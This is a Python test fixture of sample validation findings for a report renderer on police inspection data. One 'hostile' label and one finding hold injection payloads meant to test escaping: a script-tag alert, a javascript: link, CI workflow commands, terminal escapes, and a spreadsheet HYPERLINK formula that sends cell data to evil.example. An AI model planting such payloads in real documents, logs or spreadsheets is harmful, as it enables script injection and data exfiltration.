"""Results of checks with everything in them that a report has to cope with, written by hand."""

from __future__ import annotations

import datetime

from builder.checking.findings import CheckResult, Finding, Rule, Severity, Waiver, in_order
from builder.namespaces import PEEL, PEELID, PEELSH, PREFIXES
from builder.places import NOWHERE, Place

SH = PREFIXES["sh"]
XSD = PREFIXES["xsd"]

HOSTILE = (
    'a|b `c` <script>alert("1")</script> & @everyone *d* _e_ [f](javascript:alert(1)) ![g](https://evil.example/h.png) '
    "::error file=x::i\n::stop-commands::j\r##[error]k %0A 100% \x1b[31ml\u202em\x00 ]]> --> '\" \\ ~~n~~ https://evil.example/o"
)
"""A label that tries to steer everything at once."""

LEICESTERSHIRE = "seeds/documents/peel-2017-efficiency-leicestershire.yaml"


def rule(
    name: str,
    severity: Severity = Severity.VIOLATION,
    *,
    title: str,
    message: str = "",
    why: str = "",
    remedy: str = "",
    looked_at: int = 0,
    place: Place = NOWHERE,
) -> Rule:
    """A rule of the shapes; the node shape it belongs to is what its name begins with."""
    return Rule(
        name=name,
        iri=PEELSH + name,
        severity=severity,
        title=title,
        message=message,
        why=why,
        remedy=remedy,
        shape=name.partition("-")[0],
        place=place,
        looked_at=looked_at,
    )


RULES = (
    rule(
        "Force-label",
        title="name",
        message="A force has a name in English.",
        why="Tables show names.",
        remedy="Give the force one `rdfs:label` in English.",
        looked_at=45,
        place=Place("shapes/organisation.ttl", 31, 1),
    ),
    rule(
        "Judgment",
        title="Judgment",
        message="The IRI of a judgment is made of the keys of cycle, body and subject.",
        why="A judgment is one grade for one body on one subject in one cycle, and documents attest it.",
        looked_at=128,
        place=Place("shapes/judgment.ttl", 180, 1),
    ),
    rule(
        "Judgment-grade",
        title="grade",
        message="A judgment has a grade of a scheme.",
        why="A body without a grade is ungraded, which is said otherwise.",
        looked_at=128,
        place=Place("shapes/judgment.ttl", 232, 1),
    ),
    rule(
        "JudgmentScheme",
        Severity.WARNING,
        title="Grade of the cycle's scheme",
        message="{?label} has a grade that its cycle does not know.",
        why="Grades of different scales can't be compared.",
        remedy="Take a grade of the scheme of the cycle.",
        looked_at=128,
        place=Place("shapes/judgment.ttl", 300, 1),
    ),
    rule(
        "Observation-value",
        title="value",
        message="A figure is a decimal number.",
        why="Figures are added and compared.",
        looked_at=310,
        place=Place("shapes/observation.ttl", 88, 1),
    ),
    rule(
        "Person-note",
        Severity.INFO,
        title="note | about <b>people</b>",
        message="A note about a person is short.",
        looked_at=22,
        place=Place("shapes/organisation.ttl", 140, 1),
    ),
    rule(
        "Response-published",
        title="date of a response",
        message="A response has a date.",
        why="How long an answer took is asked for.",
        looked_at=0,
    ),
    rule("SurveyResult", Severity.WARNING, title="Result of a survey", message="A result names its survey."),
)


def _missing(number: int) -> Finding:
    """One of many figures without a value."""
    return Finding(
        rule="Observation-value",
        severity=Severity.VIOLATION,
        message="A figure is a decimal number.",
        focus=f"{PEELID}observation/savings/{number:02}",
        label=f"Savings, year {number}",
        path="peel:value",
        found="nothing",
        expected="exactly one decimal number such as 12.5",
        remedy="Add one `peel:value`.",
        place=Place("seeds/figures.yaml", 10 + number, 5),
        subject=Place("seeds/figures.yaml", 10 + number, 5),
        fingerprint=f"{100 + number:032x}",
        component=SH + "MinCountConstraintComponent",
        shape=PEELSH + "Observation-value",
        path_text=f"<{PEEL}value>",
    )


FINDINGS = in_order((
    Finding(
        rule="Judgment-grade",
        severity=Severity.VIOLATION,
        message="A judgment has a grade of a scheme.",
        focus=PEELID + "judgment/peel-2017/leicestershire/efficiency",
        label="Leicestershire Police, PEEL 2017, efficiency",
        path="peel:grade",
        value=PEELID + "force/leicestershire",
        found=(
            "a link to Leicestershire Police (force/leicestershire), which is of the class `peel:Force` (police force)"
        ),
        expected="a link to a thing of the class `peel:Grade` (grade)",
        remedy="Link to a `peel:Grade`, or say that Leicestershire Police is one.",
        place=Place(LEICESTERSHIRE, 63, 71),
        subject=Place(LEICESTERSHIRE, 63, 5),
        fingerprint=f"{1:032x}",
        component=SH + "ClassConstraintComponent",
        shape=PEELSH + "Judgment-grade",
        path_text=f"<{PEEL}grade>",
        value_text=f"<{PEELID}force/leicestershire>",
    ),
    Finding(
        rule="Judgment-grade",
        severity=Severity.VIOLATION,
        message="A judgment has a grade of a scheme.",
        focus=PEELID + "judgment/peel-2017/kent/efficiency",
        label="Kent Police, PEEL 2017, efficiency",
        path="peel:grade",
        found="nothing",
        expected="at least one link to a thing of the class `peel:Grade` (grade)",
        remedy="Add a `peel:grade`.",
        place=Place("seeds/documents/peel-2017-efficiency-kent.yaml", 12, 3),
        subject=Place("seeds/documents/peel-2017-efficiency-kent.yaml", 12, 3),
        fingerprint=f"{2:032x}",
        component=SH + "MinCountConstraintComponent",
        shape=PEELSH + "Judgment-grade",
        path_text=f"<{PEEL}grade>",
    ),
    Finding(
        rule="Observation-value",
        severity=Severity.VIOLATION,
        message="A figure is a decimal number.",
        focus=PEELID + "observation/burglary-rate/2016",
        label="Burglaries per 1,000 people, 2016",
        path="peel:value",
        value="twelve",
        found="`twelve` — text in English (en)",
        expected="a decimal number such as 12.5",
        remedy="Write the figure in digits.",
        place=Place("data/figures.ttl", 1204, 17),
        subject=Place("data/figures.ttl", 1200, 1),
        fingerprint=f"{3:032x}",
        component=SH + "DatatypeConstraintComponent",
        shape=PEELSH + "Observation-value",
        path_text=f"<{PEEL}value>",
        value_text='"twelve"@en',
    ),
    *(_missing(number) for number in range(1, 13)),
    Finding(
        rule="JudgmentScheme",
        severity=Severity.WARNING,
        message="PEEL 2014, effectiveness has a grade that its cycle does not know.",
        focus=PEELID + "judgment/peel-2014/leicestershire/effectiveness",
        label="PEEL 2014, effectiveness",
        path="peel:inCycle/peel:scheme",
        value="2",
        found="`2` — a decimal number",
        expected="a grade of the scheme PEEL 2014",
        remedy="Take a grade of the scheme of the cycle.",
        place=Place("seeds/documents/responding-to-austerity-2014-leicestershire.yaml", 40, 12),
        subject=Place("seeds/documents/responding-to-austerity-2014-leicestershire.yaml", 40, 3),
        fingerprint=f"{4:032x}",
        component=SH + "SPARQLConstraintComponent",
        shape=PEELSH + "Judgment",
        constraint=PEELSH + "JudgmentScheme",
        path_text=f"<{PEEL}inCycle>/<{PEEL}scheme>",
        value_text=f'"2"^^<{XSD}decimal>',
    ),
    Finding(
        rule="JudgmentScheme",
        severity=Severity.WARNING,
        message="A thing without a name has a grade that its cycle does not know.",
        focus="b12",
        found="a blank node",
        expected="a grade of the scheme PEEL 2014",
        remedy="Take a grade of the scheme of the cycle.",
        place=Place("data/others.nt", 7, 1),
        subject=NOWHERE,
        fingerprint=f"{5:032x}",
        component=SH + "SPARQLConstraintComponent",
        shape=PEELSH + "Judgment",
        constraint=PEELSH + "JudgmentScheme",
    ),
    Finding(
        rule="Person-note",
        severity=Severity.INFO,
        message=f"The note of {HOSTILE} is not short.",
        focus=PEELID + "person/mallory",
        label=HOSTILE,
        path="skos:note",
        value=f'=HYPERLINK("https://evil.example/?"&A1,"p")\n{HOSTILE}',
        found=f"`{HOSTILE}`",
        expected=f"less than {HOSTILE}",
        remedy=f"Shorten {HOSTILE}",
        place=Place("data/a,b: c%25|<d>`e`.ttl", 3, 9),
        subject=Place("data/a,b: c%25|<d>`e`.ttl", 2, 1),
        fingerprint=f"{6:032x}",
        component=SH + "MaxLengthConstraintComponent",
        shape=PEELSH + "Person-note",
        path_text=f"<{PREFIXES['skos']}note>",
        value_text='"=HYPERLINK(\\"https://evil.example/?\\"&A1,\\"p\\")"',
    ),
    Finding(
        rule="Person-note",
        severity=Severity.INFO,
        message="A note about a person is short.",
        focus=PEELID + "person/ada",
        label="Ada Löfgren 🚔 警察",
        path="^foaf:maker",
        value="-12",
        found="`-12` — plain text",
        expected="not more than 80 signs",
        fingerprint=f"{7:032x}",
        component=SH + "MaxLengthConstraintComponent",
        shape=PEELSH + "Person-note",
        path_text=f"^<{PREFIXES['foaf']}maker>",
        value_text='"-12"',
    ),
    Finding(
        rule="Person-note",
        severity=Severity.INFO,
        message="A note about a person is short.",
        focus=PEELID + "person/bob",
        label="Bob",
        path="skos:note",
        value="x" * 300,
        found=f"`{'x' * 79}…` — text in English (en)",
        expected="not more than 80 signs",
        remedy="Shorten the note.",
        place=Place("data/notes.trig"),
        subject=Place("data/notes.trig"),
        fingerprint=f"{8:032x}",
        component=SH + "MaxLengthConstraintComponent",
        shape=PEELSH + "Person-note",
        path_text=f"<{PREFIXES['skos']}note>",
        value_text=f'"{"x" * 300}"@en',
    ),
))  # fmt: skip
"""Three violations that differ and twelve alike, two warnings and three pieces of information."""

WAIVED = (
    Finding(
        rule="Force-label",
        severity=Severity.VIOLATION,
        message="A force has a name in English.",
        focus=PEELID + "force/dyfed-powys",
        label="Heddlu Dyfed-Powys",
        path="rdfs:label",
        value="Heddlu Dyfed-Powys",
        found="`Heddlu Dyfed-Powys` — text in Welsh (cy)",
        expected="text in English (en)",
        remedy="Give the force one `rdfs:label` in English.",
        place=Place("seeds/reference/forces.yaml", 90, 11),
        subject=Place("seeds/reference/forces.yaml", 89, 5),
        fingerprint=f"{9:032x}",
        component=SH + "LanguageInConstraintComponent",
        shape=PEELSH + "Force-label",
        path_text=f"<{PREFIXES['rdfs']}label>",
        value_text='"Heddlu Dyfed-Powys"@cy',
    ),
    Waiver(
        fingerprint=f"{9:032x}",
        rule="Force-label",
        thing="Heddlu Dyfed-Powys",
        reason="The force asks for its Welsh name.",
        until=datetime.date(2027, 6, 30),
        place=Place("known.yaml", 3, 5),
    ),
)

MENDED = Waiver(
    fingerprint=f"{10:032x}",
    rule="Response-published",
    thing="Response of the Home Office",
    reason="The date was asked for.",
    until=datetime.date(2027, 1, 31),
    place=Place("known.yaml", 8, 5),
)


def sample() -> CheckResult:
    """A check that found much: of all severities, placed and not placed, known and mended, plain and hostile."""
    return CheckResult(
        findings=FINDINGS,
        rules=RULES,
        things=1505,
        shapes=5,
        unreached=("Response", "SurveyResult"),
        waived=(WAIVED,),
        mended=(MENDED,),
        notes=("Not checked: <https://example.org/vocabulary> is imported and not at hand.",),
    )


def broken() -> CheckResult:
    """A check that could not begin: an RDF file and two seeds can't be taken as they are."""
    return CheckResult(
        findings=in_order(
            (
                Finding(
                    rule="syntax",
                    severity=Severity.VIOLATION,
                    message="The prefix `foaff:` is not declared.",
                    found="the prefix `foaff:` is not declared",
                    expected="a declared prefix: foaf, peel, rdfs",
                    remedy="write `foaf:`, or declare `@prefix foaff: <…> .` above",
                    place=Place("data/people.ttl", 14, 9),
                    subject=Place("data/people.ttl", 14, 9),
                    fingerprint=f"{21:032x}",
                ),
                Finding(
                    rule="seeds",
                    severity=Severity.VIOLATION,
                    message="`grade` is `excelent`.",
                    found="`grade` is `excelent`",
                    expected="outstanding, good, requires improvement, inadequate",
                    remedy="did you mean `excellent`?",
                    place=Place(LEICESTERSHIRE, 63, 71),
                    subject=Place(LEICESTERSHIRE, 63, 71),
                    fingerprint=f"{22:032x}",
                ),
                Finding(
                    rule="seeds",
                    severity=Severity.VIOLATION,
                    message="The file is empty.",
                    found="the file is empty",
                    place=Place("seeds/press.yaml"),
                    subject=Place("seeds/press.yaml"),
                    fingerprint=f"{23:032x}",
                ),
            )
        ),
        broken=True,
    )


def clean() -> CheckResult:
    """A check that found nothing wrong."""
    return CheckResult(findings=(), rules=RULES[:3], things=173, shapes=2)
